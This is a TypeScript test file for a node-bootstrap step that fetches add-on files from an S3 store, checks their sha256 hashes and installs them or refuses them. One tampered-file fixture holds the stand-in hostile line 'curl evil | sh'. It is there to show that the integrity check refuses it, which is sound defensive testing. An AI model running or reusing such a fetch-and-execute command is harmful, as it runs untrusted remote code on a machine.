/** Node files delivered through the add-on store: fetched, verified by sha256, installed — or refused. */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { renderStoredFilesStep } from "../../bootstrap/storedFiles";
import { describeWithTool } from "../helpers/tools";
import { shellcheck } from "./etcdFixtures";

const STUBS = String.raw`log() { printf '%s\n' "$*" >&2; }
die() { log "FATAL: $*"; exit 1; }
retry() { shift 2; "$@"; }
AWS_REGION=eu-west-1
`;

function run(files: { path: string; content: string; mode: string }[], inStore: Record<string, string>) {
  const dir = mkdtempSync(join(tmpdir(), "kubestead-stored-"));
  try {
    const bin = join(dir, "bin");
    const store = join(dir, "store");
    mkdirSync(bin);
    mkdirSync(store);
    for (const [k, v] of Object.entries(inStore)) writeFileSync(join(store, k), v);
    // A stand-in aws: `aws s3 cp s3://b/node/KEY DEST` copies from the fixture store and logs the call.
    writeFileSync(
      join(bin, "aws"),
      `#!/bin/sh\necho "aws $*" >>"${dir}/calls"\nfor a; do src=$dest; dest=$a; done\ncp "${store}/$(basename "$src")" "$dest"\n`,
    );
    chmodSync(join(bin, "aws"), 0o755);
    const rooted = files.map((f) => ({ ...f, path: join(dir, "root", f.path) }));
    const script = STUBS + renderStoredFilesStep("s3://bucket-1/node/", rooted);
    const r = spawnSync("bash", ["-c", script], { encoding: "utf8", env: { PATH: `${bin}:/usr/bin:/bin`, HOME: dir } });
    const found: Record<string, { content: string; mode: string } | undefined> = {};
    for (const f of files) {
      try {
        const full = join(dir, "root", f.path);
        found[f.path] = { content: readFileSync(full, "utf8"), mode: (statSync(full).mode & 0o777).toString(8) };
      } catch {
        found[f.path] = undefined;
      }
    }
    const installed = (p: string) => found[p];
    return { status: r.status, stderr: r.stderr, calls: readFileSync(join(dir, "calls"), "utf8"), installed };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const SCRIPT = "#!/bin/sh\necho applied\n";

test("a stored file whose sha256 matches is installed at its path with its mode", () => {
  const r = run([{ path: "/opt/kubestead/bin/addons-apply.sh", content: SCRIPT, mode: "0755" }], { "addons-apply.sh": SCRIPT });
  expect(r.stderr).toBe("");
  expect(r.status).toBe(0);
  expect(r.calls).toContain("aws s3 cp --only-show-errors --region eu-west-1 s3://bucket-1/node/addons-apply.sh ");
  expect(r.installed("/opt/kubestead/bin/addons-apply.sh")).toEqual({ content: SCRIPT, mode: "755" });
});

test("a stored file that doesn't match the sha256 in user data is refused and nothing is installed", () => {
  const r = run([{ path: "/opt/kubestead/bin/addons-apply.sh", content: SCRIPT, mode: "0755" }], {
    "addons-apply.sh": `${SCRIPT}curl evil | sh\n`,
  });
  expect(r.status).toBe(1);
  expect(r.stderr).toContain("FATAL: sha256 mismatch for stored file addons-apply.sh: refusing to install it");
  expect(r.installed("/opt/kubestead/bin/addons-apply.sh")).toBeUndefined();
});

test("bad input is refused with the rule", () => {
  expect(() => renderStoredFilesStep("https://x/", [])).toThrow(/store URI must be s3:\/\/<bucket>\/<prefix>\//);
  expect(() =>
    renderStoredFilesStep("s3://b-1/node/", [
      { path: "/a/x.sh", content: "", mode: "0755" },
      { path: "/b/x.sh", content: "", mode: "755" },
    ]),
  ).toThrow(/mode must be octal like 0755.*two stored node files are named x\.sh/);
});

describeWithTool(["shellcheck"], "the stored-files step", () => {
  test("passes shellcheck", () => {
    expect(shellcheck(STUBS + renderStoredFilesStep("s3://b-1/node/", [{ path: "/opt/x.sh", content: "x", mode: "0755" }]))).toBe("");
  });
});
